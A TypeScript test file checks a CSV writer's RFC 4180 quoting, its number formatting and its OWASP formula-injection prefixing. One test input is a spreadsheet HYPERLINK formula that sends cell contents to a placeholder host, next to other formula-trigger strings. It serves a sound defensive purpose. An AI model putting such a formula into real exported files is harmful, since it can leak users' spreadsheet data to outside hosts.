/**
 * csvText / csvNumber / csvLines: RFC 4180 quoting and the OWASP formula-injection rule.
 */
import { describe, expect, it } from 'vitest';
import { csvLines } from '../../../shared-model/index.ts';
import { csvNumber, csvText } from '../../../shared-model/csv/write.ts';

describe('csvText', () => {
  it('leaves a plain cell as it is', () => {
    expect(csvText('inductor')).toBe('inductor'); // RFC 4180 §2.5: quoting is optional for plain fields
  });

  it('quotes a cell holding a comma, a quote or a line break and doubles inner quotes', () => {
    expect(csvText('a,b')).toBe('"a,b"'); // RFC 4180 §2.6
    expect(csvText('say "hi"')).toBe('"say ""hi"""'); // RFC 4180 §2.7
    expect(csvText('two\nlines')).toBe('"two\nlines"'); // RFC 4180 §2.6
  });

  it.each(['=HYPERLINK("http://x.invalid/?"&A1,"x")', '+1+2', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd'])(
    'prefixes %j with a single quote and quotes it',
    (cell) => {
      const out = csvText(cell);
      expect(out.startsWith(`"'`)).toBe(true); // OWASP "CSV Injection": prefix = + - @ tab CR with ' and quote (docs/methods.md §19, from memory)
      expect(out.slice(2, -1).replace(/""/g, '"')).toBe(cell);
    },
  );

  it('does not prefix a cell whose formula character is not the first one', () => {
    expect(csvText('a=b')).toBe('a=b'); // OWASP "CSV Injection": only a leading character is evaluated (from memory)
  });
});

describe('csvNumber', () => {
  it('writes a negative number as a number, never prefixed', () => {
    expect(csvNumber(-0.25)).toBe('-0.25'); // docs/methods.md §19: negative numbers written as numbers stay numbers
  });

  it('round-trips every double exactly and leaves non-finite values empty', () => {
    for (const x of [0.1 + 0.2, 1e-300, 5e-324, -123456.789e10]) expect(Number(csvNumber(x))).toBe(x); // ECMA-262 Number::toString round-trips
    expect(csvNumber(Number.NaN)).toBe('');
    expect(csvNumber(Number.POSITIVE_INFINITY)).toBe('');
  });
});

describe('csvLines', () => {
  it('ends every record with CRLF and keeps numbers and text apart', () => {
    expect(csvLines([['part', 'loss [W]'], ['-rectifier', -1.5]])).toBe(`part,loss [W]\r\n"'-rectifier",-1.5\r\n`); // RFC 4180 §2.1; OWASP prefix
  });
});
